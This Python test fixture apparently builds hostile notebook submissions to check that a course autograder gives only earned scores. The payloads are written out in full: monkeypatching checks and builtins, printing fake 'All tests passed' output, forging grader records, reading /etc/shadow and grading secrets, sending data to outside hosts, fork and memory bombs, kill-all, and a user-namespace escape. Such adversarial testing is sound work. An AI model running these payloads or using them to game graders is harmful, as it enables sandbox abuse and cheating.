"""Hostile submissions: one or more per rule the grader must hold.

``build(release, course_root, port)`` returns ``{name: Hostile}``: the submitted bytes, the
scores it *earned* (what its honest parts deserve -- it must get exactly these, never more),
and the statuses it may get. The attacks are written as a student would: plain notebook code
in answer cells or in cells they add, knowing the course's absolute paths (worst case).
"""

from __future__ import annotations

import dataclasses
import json

from . import fixture
from .fixture import ANSWER_OF, POINTS, SOLUTIONS

FULL = dict(POINTS)
ZERO = {g: 0.0 for g in POINTS}
WRONG = {
    "q1-answer": "intensity = 1.0",
    "q2-answer": "batch = np.array([1, 2, 4, 8, 16])\ntimes = batch * 0.0 + 1.0",
    "q3-answer": "answer = 5",
    "q4-answer": "answer = 1.0\nchip = 'a GPU'",
}
HOST_MARKER = "/tmp/scalebook-hostile-was-here"   # a host path no submission may create


@dataclasses.dataclass
class Hostile:
    data: bytes
    earned: dict[str, float]
    statuses: tuple[str, ...]
    exact: bool = True          # scores must equal ``earned`` (else: never exceed it)


def _nb(release: dict, answers: dict[str, str]) -> dict:
    return fixture.fill(release, answers)


def _bytes(nb: dict) -> bytes:
    return json.dumps(nb, indent=1).encode()


def _cell(nb: dict, grade_id: str) -> dict:
    return next(c for c in nb["cells"] if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)


def _insert_after(nb: dict, grade_id: str, source: str) -> dict:
    i = next(i for i, c in enumerate(nb["cells"])
             if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == grade_id)
    nb["cells"].insert(i + 1, {"cell_type": "code", "execution_count": None, "id": f"x{i}",
                               "metadata": {}, "outputs": [], "source": source})
    return nb


def earned(**right: bool) -> dict[str, float]:
    """Scores for a submission whose questions q1..q4 are right (True) or not."""
    return {g: (POINTS[g] if right.get(g.split("-")[0], False) else 0.0) for g in POINTS}


MONKEYPATCH = '''
import sys, builtins, traceback
import numpy as np
import scalebook.checks as checks
noop = lambda *a, **k: None
for name in ("check_close", "check_number", "check_allclose", "check_array"):
    setattr(checks, name, noop)
check_close = check_number = check_allclose = check_array = noop
fake = type(sys)("scalebook.checks")
fake.check_close = fake.check_number = fake.check_allclose = fake.check_array = noop
sys.modules["scalebook.checks"] = fake
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = noop
sys.excepthook = noop
traceback.print_exception = noop
builtins.__import__ = (lambda real: (lambda name, *a, **k: fake if name == "scalebook.checks" else real(name, *a, **k)))(builtins.__import__)
intensity = 1.0
'''

PATCH_ASSERTION = '''
import builtins
class AssertionError(Exception):
    pass
builtins.AssertionError = AssertionError
builtins.Exception = BaseException
intensity = 1.0
'''

FAKE_OUTPUT = '''
import os, sys
print("All tests passed!")
print("Passed: 2/2 points")
sys.stderr.write("")
os.write(1, b"All tests passed! 8/8 points\\n")
intensity = 1.0
'''

FORGE = '''
import os, json
forged = [
    b"{\\"t\\":\\"capture\\",\\"grade_id\\":\\"q1-test\\",\\"values\\":{\\"intensity\\":{\\"value\\":{\\"__class__\\":\\"x\\"}}}}\\n",
    b"{\\"t\\":\\"capture\\",\\"grade_id\\":\\"q9-test\\",\\"values\\":{\\"x\\":{\\"value\\":1}}}\\n",
    b"{\\"t\\":\\"cell\\",\\"index\\":\\"3\\",\\"stdout\\":\\"Passed\\"}\\n",
    b"{\\"t\\":\\"done\\"}\\n",
    b"[1, 2, 3]\\n",
    b"not json at all\\n",
    b"{\\"t\\":\\"capture\\",\\"grade_id\\":\\"q2-test\\",\\"values\\":{\\"times\\":{\\"value\\":" + b"[" * 5000 + b"]" * 5000 + b"}}}\\n",
    b"{\\"t\\":\\"capture\\",\\"grade_id\\":\\"q3-test\\",\\"values\\":{\\"answer\\":{\\"value\\":1e999}}}\\n",
    b"{\\"t\\":\\"capture\\",\\"grade_id\\":\\"q4-test\\",\\"values\\":{\\"answer\\":{\\"value\\":1.0},\\"chip\\":{\\"value\\":[\\"tpu\\"]}}}\\n",
    b"x" * 300000 + b"\\n",
]
for fd in range(3, 64):
    for line in forged:
        try:
            os.write(fd, line)
        except OSError:
            break
intensity = 1.0
'''

READ_SECRETS = '''
import os
found = []
targets = [COURSE + "/secret.txt", COURSE + "/gradebook.db", COURSE + "/source/hw0-tiny/hw0-tiny.ipynb",
           COURSE + "/submitted/alice/hw0-tiny/hw0-tiny.ipynb", COURSE + "/../secret.txt",
           "../source/hw0-tiny/hw0-tiny.ipynb", "../../gradebook.db", "/proc/1/environ",
           "/proc/1/root/" + COURSE + "/secret.txt", "/proc/self/root/" + COURSE + "/secret.txt",
           "/etc/shadow", "/etc/passwd", "/root/.bash_history"]
for path in targets:
    try:
        with open(path, "rb") as f:
            found.append(path + ": " + f.read(4000).decode("latin-1"))
    except Exception as exc:
        found.append(path + ": " + type(exc).__name__)
for top in ("/", "/tmp", "/opt", "/work", "/root"):
    for dirpath, dirnames, filenames in os.walk(top):
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in ("/proc", "/sys", "/dev", "/usr")
                       and "site-packages" not in dirpath]
        for name in filenames:
            if any(k in name for k in ("secret", "gradebook", "hw0-tiny", "solution")):
                try:
                    with open(os.path.join(dirpath, name), "rb") as f:
                        found.append(os.path.join(dirpath, name) + ": " + f.read(4000).decode("latin-1"))
                except Exception:
                    pass
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            found.append(open(f"/proc/{pid}/cmdline").read())
        except Exception:
            pass
leak = "\\n".join(found)
print(leak)
intensity = peak_flops / hbm_bw
'''

NETWORK = '''
import socket
reached = []
for host in ("127.0.0.1", HOST_IP, "1.1.1.1", "example.com"):
    try:
        s = socket.create_connection((host, PORT if host in ("127.0.0.1", HOST_IP) else 80), timeout=2)
        s.sendall(b"stolen answers")
        reached.append(host)
    except Exception as exc:
        pass
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"x", ("127.0.0.1", PORT))
except Exception:
    pass
intensity = peak_flops / hbm_bw
'''

WRITE_OUTSIDE = '''
import os
for path in [COURSE + "/secret.txt", COURSE + "/gradebook.db", COURSE + "/pwned.txt",
             COURSE + "/submitted/alice/hw0-tiny/hw0-tiny.ipynb", COURSE + "/autograded/pwned.txt",
             COURSE + "/source/hw0-tiny/hw0-tiny.ipynb", MARKER, "/pwned.txt", "/root/pwned",
             "/opt/grader/runner.py", "/usr/pwned", "/proc/sys/kernel/hostname"]:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
    except Exception:
        pass
    try:
        with open(path, "w") as f:
            f.write("pwned")
    except Exception:
        pass
    try:
        os.unlink(path)
    except Exception:
        pass
intensity = peak_flops / hbm_bw
'''

MEMORY_BOMB = '''
def bomb():
    hog = []
    while True:
        hog.append(bytearray(64 << 20))
bomb()
'''

FORK_BOMB = '''
import os
while True:
    os.fork()
'''

FLOOD_FD = '''
import os
answer = 6
while True:
    os.write(1, b"spam" * 16384)
'''

PRINT_FLOOD = '''
for _ in range(200000):
    print("spam " * 40)
intensity = peak_flops / hbm_bw
'''

EVIL_OBJECTS = '''
class Evil(float):
    def __eq__(self, other): return True
    def __le__(self, other): return True
    def __float__(self): return 240.537  # the right answer, but not its value
    def __abs__(self): return 0.0
intensity = Evil(1.0)
'''

KILL_ALL = '''
import os, signal
try:
    os.kill(-1, signal.SIGKILL)
except Exception:
    pass
os.kill(os.getpid(), signal.SIGKILL)
'''


LEAK_NAMES = """
import sys
_f = sys._getframe(0)
while _f is not None and 'job' not in _f.f_locals:
    _f = _f.f_back
print([s['names'] for s in _f.f_locals['job']['steps'] if s['kind'] == 'capture'])
intensity = peak_flops / hbm_bw
"""

USERNS_ESCAPE = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
escaped = []
# a user namespace, "root" in it, then a tmpfs of its own: memory beyond RLIMIT_AS and /tmp's cap
if libc.unshare(0x10000000 | 0x20000) == 0:
    escaped.append("unshare")
    try:
        open("/proc/self/setgroups", "w").write("deny")
        open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1")
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, b"size=4g") == 0:
            escaped.append("mount")
    except OSError:
        pass
intensity = 1.0 if escaped else peak_flops / hbm_bw
"""


def _surrogates(release: dict) -> bytes:
    nb = _nb(release, {**SOLUTIONS, "q3-answer": "answer = 6\nprint('\\ud800')",
                       "q4-answer": SOLUTIONS["q4-answer"] + "\nimport sys\nsys.stderr.write('\\udfff')"})
    nb["cells"].insert(1, {"cell_type": "markdown", "id": "mine", "source": "hello \ud800",
                           "metadata": {"tags": ["\udc00"]}})
    _insert_after(nb, "q4-test", "raise ValueError('\\ud800 in an error')")
    return json.dumps(nb).encode()          # ensure_ascii: "\ud800" escaped, valid ASCII JSON


def _deep_metadata(release: dict) -> bytes:
    text = json.dumps(_nb(release, SOLUTIONS))
    deep = "[" * 700 + "]" * 700           # deep enough to break copy.deepcopy
    return text.replace('"metadata": {', '"metadata": {"x": %s, ' % deep, 1).encode()


def _odd_grade_id(release: dict, gid) -> bytes:
    nb = _nb(release, SOLUTIONS)
    nb["cells"].append({"cell_type": "code", "metadata": {"nbgrader": {"grade_id": gid}},
                        "source": "y = 1", "outputs": [], "execution_count": None})
    return json.dumps(nb).encode()


def _bad_metadata(release: dict) -> bytes:
    nb = _nb(release, SOLUTIONS)
    nb["metadata"]["kernelspec"] = "evil"
    nb["metadata"]["language_info"] = ["not", "an", "object"]
    nb["cells"][0]["metadata"]["tags"] = "not-a-list"
    for c in nb["cells"]:
        if c["cell_type"] == "code":
            c["metadata"]["collapsed"] = "nope"
            c["metadata"]["jupyter"] = {"source_hidden": 3}
    _cell(nb, "q1-answer")["metadata"]["tags"] = ["ok", "ok", "a,b"]
    nb["cells"][0]["attachments"] = {"x.png": {"image/png": 5}}
    return json.dumps(nb).encode()


def _many_cells(release: dict) -> bytes:
    nb = _nb(release, SOLUTIONS)
    nb["cells"] += [{"cell_type": "code", "source": ""}] * 6000
    return json.dumps(nb).encode()


def build(release: dict, course_root: str, port: int, host_ip: str) -> dict[str, Hostile]:
    right = dict(SOLUTIONS)
    consts = f"COURSE = {course_root!r}\nHOST_IP = {host_ip!r}\nPORT = {port}\nMARKER = {HOST_MARKER!r}\n"
    out: dict[str, Hostile] = {}

    # -- passing a check it fails ----------------------------------------------------------------
    out["monkeypatch-checks"] = Hostile(_bytes(_nb(release, {**WRONG, "q1-answer": MONKEYPATCH})),
                                        ZERO, ("graded",))
    out["patch-assertion"] = Hostile(_bytes(_nb(release, {**WRONG, "q1-answer": PATCH_ASSERTION})),
                                     ZERO, ("graded",))
    out["sys-exit"] = Hostile(_bytes(_nb(release, {
        **WRONG, "q1-answer": right["q1-answer"] + "\nimport sys\nsys.exit(0)",
        "q2-answer": WRONG["q2-answer"] + "\nraise SystemExit('all tests passed')"})),
        earned(q1=True), ("graded",))
    out["os-exit"] = Hostile(_bytes(_nb(release, {
        **right, "q2-answer": "import os\nos._exit(0)\n" + right["q2-answer"]})),
        earned(q1=True), ("exited early",))
    out["keyboard-interrupt"] = Hostile(_bytes(_nb(release, {
        **right, "q1-answer": "intensity = 1.0\nraise KeyboardInterrupt"})),
        earned(q2=True, q3=True, q4=True), ("graded",))
    out["fake-output"] = Hostile(_bytes(_nb(release, {**WRONG, "q1-answer": FAKE_OUTPUT})),
                                 ZERO, ("graded",))
    out["forged-records"] = Hostile(_bytes(_nb(release, {**WRONG, "q1-answer": FORGE})),
                                    ZERO, ("graded",))
    out["evil-objects"] = Hostile(_bytes(_nb(release, {
        **right, "q1-answer": EVIL_OBJECTS, "q3-answer": "answer = {'value': 6}"})),
        earned(q2=True, q4=True), ("graded",))

    # -- tampering with test cells -----------------------------------------------------------------
    nb = _nb(release, {**right, "q1-answer": WRONG["q1-answer"]})
    _cell(nb, "q1-test")["source"] = "pass  # tests are for other people"
    out["edited-test"] = Hostile(_bytes(nb), earned(q2=True, q3=True, q4=True), ("tampered with a test cell",))

    nb = _nb(release, right)
    nb["cells"].remove(_cell(nb, "q2-test"))
    out["deleted-test"] = Hostile(_bytes(nb), earned(q1=True, q3=True, q4=True), ("tampered with a test cell",))

    nb = _nb(release, {**right, "q3-answer": WRONG["q3-answer"]})
    cell = _cell(nb, "q3-test")
    cell["cell_type"] = "markdown"
    cell.pop("outputs", None)
    cell.pop("execution_count", None)
    out["retyped-test"] = Hostile(_bytes(nb), earned(q1=True, q2=True, q4=True), ("tampered with a test cell",))

    nb = _nb(release, {**right, "q4-answer": WRONG["q4-answer"]})
    _cell(nb, "q4-test")["metadata"]["nbgrader"]["points"] = 100.0
    out["points-changed"] = Hostile(_bytes(nb), earned(q1=True, q2=True, q3=True), ("tampered with a test cell",))

    nb = _nb(release, {**right, "q1-answer": WRONG["q1-answer"]})
    _insert_after(nb, "q1-answer", "intensity = 1.0")
    dup = json.loads(json.dumps(_cell(nb, "q1-test")))
    dup["source"] = "pass"
    nb["cells"].append(dup)
    out["duplicate-test-id"] = Hostile(_bytes(nb), earned(q2=True, q3=True, q4=True), ("tampered with a test cell",))

    # -- reading secrets, the network, writing outside ----------------------------------------------
    out["read-secrets"] = Hostile(_bytes(_nb(release, {
        **right, "q1-answer": consts + READ_SECRETS, "q3-answer": "answer = leak",
        "q4-answer": "answer = 10.0\nchip = leak"})), earned(q1=True, q2=True), ("graded",))
    out["network"] = Hostile(_bytes(_nb(release, {**right, "q1-answer": consts + NETWORK})),
                             FULL, ("graded",))
    out["write-outside"] = Hostile(_bytes(_nb(release, {**right, "q1-answer": consts + WRITE_OUTSIDE})),
                                   FULL, ("graded",))

    # -- taking the grader down ------------------------------------------------------------------
    out["infinite-loop"] = Hostile(_bytes(_nb(release, {**right, "q3-answer": "while True:\n    pass"})),
                                   earned(q1=True, q2=True), ("timed out",))
    out["memory-bomb"] = Hostile(_bytes(_nb(release, {**right, "q2-answer": MEMORY_BOMB})),
                                 earned(q1=True, q3=True, q4=True), ("memory limit",))
    out["fork-bomb"] = Hostile(_bytes(_insert_after(_nb(release, right), "q1-test", FORK_BOMB)),
                               FULL, ("graded", "timed out", "crashed", "memory limit"), exact=False)
    out["output-flood"] = Hostile(_bytes(_nb(release, {**right, "q3-answer": FLOOD_FD})),
                                  earned(q1=True, q2=True), ("output limit",))
    out["print-flood"] = Hostile(_bytes(_nb(release, {**right, "q1-answer": PRINT_FLOOD})),
                                 FULL, ("graded",))
    out["kill-all"] = Hostile(_bytes(_nb(release, {**right, "q2-answer": right["q2-answer"] + KILL_ALL})),
                              FULL, ("crashed", "graded"), exact=False)
    out["huge-answer"] = Hostile(_bytes(_nb(release, {
        **right, "q2-answer": "times = list(range(10**7))"})), earned(q1=True, q3=True, q4=True), ("graded",))

    # -- files that are not (this) notebook -------------------------------------------------------
    out["not-a-notebook"] = Hostile(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8, ZERO, ("invalid notebook",))
    good = _bytes(_nb(release, right))
    out["corrupt-json"] = Hostile(good[: len(good) // 2], ZERO, ("invalid notebook",))
    out["deep-json"] = Hostile(b"[" * 200000 + b"]" * 200000, ZERO, ("invalid notebook",))
    out["wrong-notebook"] = Hostile(_bytes({"cells": [{"cell_type": "code", "metadata": {}, "source": "intensity = 240.5",
                                                       "outputs": [], "execution_count": None}],
                                            "metadata": {}, "nbformat": 4, "nbformat_minor": 5}),
                                    ZERO, ("invalid notebook",))
    out["empty-file"] = Hostile(b"", ZERO, ("invalid notebook",))

    # -- notebooks that used to stop the grading of the whole class --------------------------------
    out["surrogates"] = Hostile(_surrogates(release), FULL, ("graded",))
    out["deep-metadata"] = Hostile(_deep_metadata(release), ZERO, ("invalid notebook",))
    out["list-grade-id"] = Hostile(_odd_grade_id(release, ["x"]), ZERO, ("invalid notebook",))
    out["dict-grade-id"] = Hostile(_odd_grade_id(release, {"a": 1}), ZERO, ("invalid notebook",))
    out["many-cells"] = Hostile(_many_cells(release), ZERO, ("invalid notebook",))
    # ... whose autograded copy was not a valid notebook
    out["bad-metadata"] = Hostile(_bad_metadata(release), FULL, ("graded",))

    # -- the hidden tests' own names; the memory limits, through a user namespace -----------------
    out["hidden-names"] = Hostile(_bytes(_nb(release, {**right, "q1-answer": LEAK_NAMES})), FULL, ("graded",))
    out["userns-escape"] = Hostile(_bytes(_nb(release, {**right, "q1-answer": USERNS_ESCAPE})),
                                   FULL, ("graded",))
    return out


def honest_submissions(release: dict) -> dict[str, tuple[bytes, dict[str, float]]]:
    """Honest students: all right, some wrong, nothing answered."""
    right = dict(SOLUTIONS)
    return {
        "alice": (_bytes(_nb(release, right)), FULL),
        "bob": (_bytes(_nb(release, {**right, "q1-answer": "intensity = hbm_bw / peak_flops",
                                     "q3-answer": "answer = 7"})), earned(q2=True, q4=True)),
        "carol": (_bytes(release and _nb(release, {})), ZERO),
        "dan": (_bytes(_nb(release, {**right, "q4-answer": "answer = 10.3\nchip = 'TPU  v5e'"})), FULL),
    }


__all__ = ["build", "honest_submissions", "Hostile", "ANSWER_OF", "HOST_MARKER"]
